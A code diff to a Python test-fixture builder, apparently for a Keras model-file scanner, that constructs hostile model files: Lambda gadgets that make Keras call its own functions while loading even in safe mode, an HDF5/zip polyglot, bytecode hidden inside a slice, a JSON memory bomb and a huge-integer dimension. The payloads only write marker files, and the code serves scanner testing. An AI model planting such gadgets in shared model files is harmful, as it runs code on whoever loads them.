@@ -184,9 +184,6 @@ def build(out: Path) -> dict[str, Any]:
     )
     marker.unlink(missing_ok=True)  # building the models ran the lambdas once, here
 
-    def layer_named(cfg: dict, name: str) -> dict:
-        return next(e for e in cfg["config"]["layers"] if e["config"].get("name") == name)
-
     system = {"module": "os", "class_name": "system", "registered_name": None}
     command = f"touch {marker}"
 
@@ -360,7 +357,149 @@ def build(out: Path) -> dict[str, Any]:
         "MC801",
         ("hidden",),
     )
-    return {"cases": cases, "marker": marker, "fifo": fifo, "good": good, "dir": out}
+    _keras_function_cases(out, cases, keras, h5py, fifo, marker, writes)
+    _bound_cases(out, cases, good)
+    image = out / "PWNED.png"  # what the image-saving gadget writes (matplotlib adds .png)
+    return {
+        "cases": cases,
+        "marker": marker,
+        "markers": (marker, image),
+        "fifo": fifo,
+        "good": good,
+        "dir": out,
+    }
+
+
+def layer_named(cfg: dict, name: str) -> dict:
+    return next(e for e in cfg["config"]["layers"] if e["config"].get("name") == name)
+
+
+def add_gadget(cfg: dict, function: dict, arguments: dict) -> None:
+    """Append a Lambda layer (a copy of the model's own Keras-written 'lam') that calls
+    ``function`` with ``arguments`` on a constant input, so Keras calls it while it builds
+    the model, before anything is trained or predicted."""
+    evil = json.loads(json.dumps(layer_named(cfg, "lam")))
+    evil["name"] = evil["config"]["name"] = "evil"
+    evil["config"]["function"] = function
+    evil["config"]["arguments"] = arguments
+    image = {"class_name": "__numpy__", "config": {"value": [[[[0.5] * 3]]], "dtype": "float32"}}
+    evil["inbound_nodes"] = [{"args": [image], "kwargs": {}}]
+    cfg["config"]["layers"].append(evil)
+
+
+def keras_function(module: str, name: str) -> dict:
+    """A public Keras function by name, as a config refers to one."""
+    return {"module": module, "class_name": "function", "config": name, "registered_name": name}
+
+
+def _keras_function_cases(
+    out: Path, cases: dict, keras: Any, h5py: Any, fifo: Path, marker: Path, writes: Any
+) -> None:
+    """Files that make Keras call one of its own public functions with the file's arguments
+    (accepted by ``load_model`` in safe mode), a polyglot that hides such a file behind a
+    benign HDF5 model, and bytecode hidden where the scan used not to look."""
+    layers = keras.layers
+    keras.backend.clear_session()
+    inp = keras.Input((4, 4, 3), name="x")
+    relu = layers.Lambda(keras.ops.relu, name="lam")(inp)
+    head = layers.Dense(2, name="out")(layers.Flatten(name="flat")(relu))
+    base = keras.Model(inp, head)
+    base.save(out / "gadget_base.keras")
+    base.save(out / "gadget_base.h5")
+    plot = keras_function("keras.visualization", "plot_image_gallery")
+    image = str(out / "PWNED")  # matplotlib writes PWNED.png
+
+    writer = tamper(
+        out / "gadget_base.keras",
+        out / "keras_function_writes_file.keras",
+        lambda cfg: add_gadget(cfg, plot, {"path": image}),
+    )
+    cases["keras-function-lambda-writes-file"] = (writer, "MC802", ("evil",))
+
+    legacy = out / "keras_function_writes_file.h5"
+    legacy.write_bytes((out / "gadget_base.h5").read_bytes())
+    with h5py.File(legacy, "a") as f:
+        cfg = json.loads(f.attrs["model_config"])
+        add_gadget(cfg, plot, {"path": image})
+        f.attrs["model_config"] = json.dumps(cfg)
+    cases["keras-function-lambda-writes-file-h5"] = (legacy, "MC802", ("evil",))
+
+    tfsm = keras_function("keras.layers", "TFSMLayer")
+    cases["keras-layer-constructor-as-lambda"] = (
+        tamper(
+            out / "gadget_base.keras",
+            out / "tfsm_constructor.keras",
+            lambda cfg: add_gadget(cfg, tfsm, {"call_endpoint": str(fifo)}),
+        ),
+        "MC802",
+        ("evil",),
+    )
+
+    def loader_activation(cfg: dict) -> None:
+        layer_named(cfg, "out")["config"]["activation"] = keras_function(
+            "keras.datasets.mnist", "load_data"
+        )
+
+    cases["keras-dataset-loader-as-activation"] = (
+        tamper(out / "gadget_base.keras", out / "loader_activation.keras", loader_activation),
+        "MC802",
+        ("out",),
+    )
+
+    # A benign legacy .h5 model with the file-writing .keras appended: Keras reads the zip
+    # part when the name ends in .keras, the HDF5 part when it ends in .h5.
+    polyglot = (out / "gadget_base.h5").read_bytes() + writer.read_bytes()
+    (out / "polyglot.keras").write_bytes(polyglot)
+    (out / "polyglot.h5").write_bytes(polyglot)
+    cases["polyglot-h5-with-hostile-zip"] = (out / "polyglot.keras", "MC809", ("file",))
+    cases["polyglot-named-h5"] = (out / "polyglot.h5", "MC809", ("file",))
+
+    # Lambda bytecode in a nested model inside a __slice__ in a Lambda's arguments: Keras
+    # rebuilds the slice's bounds (and with safe_mode=False runs the bytecode).
+    keras.backend.clear_session()
+    inner = keras.Sequential(
+        [keras.Input((4,)), layers.Lambda(writes, name="inner_lam")], name="inner"
+    )
+    inner_config = keras.saving.serialize_keras_object(inner)
+    marker.unlink(missing_ok=True)
+
+    def hide_in_slice(cfg: dict) -> None:
+        layer_named(cfg, "lam")["config"]["arguments"] = {
+            "bounds": {
+                "class_name": "__slice__",
+                "config": {"start": inner_config, "stop": None, "step": None},
+            }
+        }
+
+    cases["lambda-hidden-in-slice"] = (
+        tamper(out / "gadget_base.keras", out / "slice.keras", hide_in_slice),
+        "MC801",
+        ("lam", "inner_lam"),
+    )
+
+
+def _bound_cases(out: Path, cases: dict, good: Path) -> None:
+    """Files whose JSON is within the byte and depth limits but not within memory or
+    integer bounds."""
+    # 63 MiB of "[]," (22 million lists, 5.6 GB once parsed) in a 64 KiB archive.
+    body = b"[]," * (63 * 1024 * 1024 // 3)
+    config = b'{"class_name": "Sequential", "config": {"name": "s", "layers": [' + body + b"[]]}}"
+    path = out / "json_elements.keras"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        zf.writestr("config.json", config)
+    cases["json-element-bomb"] = (path, "MC806", ("config.json",))
+
+    # A dimension of 10**1000 (printing products of such numbers fails; Keras would try to
+    # allocate them).
+    members = read_members(good)
+    config = json.loads(members["config.json"])
+    layer_named(config, "hidden")["config"]["units"] = "HUGE"
+    members["config.json"] = json.dumps(config).replace('"HUGE"', "1" + "0" * 1000)
+    cases["huge-integer-dimension"] = (
+        write_members(out / "huge_int.keras", members),
+        "MC806",
+        ("config.json",),
+    )
 
 
 #: Every hostile case, in report order.
@@ -390,4 +529,19 @@ HOSTILE = [
     "extra-pickle-member",
     "torch-pickle",
     "keras2-lambda-bytecode",
+    "keras-function-lambda-writes-file",
+    "keras-function-lambda-writes-file-h5",
+    "keras-layer-constructor-as-lambda",
+    "keras-dataset-loader-as-activation",
+    "polyglot-h5-with-hostile-zip",
+    "polyglot-named-h5",
+    "lambda-hidden-in-slice",
+    "json-element-bomb",
+    "huge-integer-dimension",
+]
+#: Cases Keras loads and runs in safe mode (the probe's mode): each writes a marker.
+RUN_IN_SAFE_MODE = [
+    "keras-function-lambda-writes-file",
+    "keras-function-lambda-writes-file-h5",
+    "polyglot-h5-with-hostile-zip",
 ]
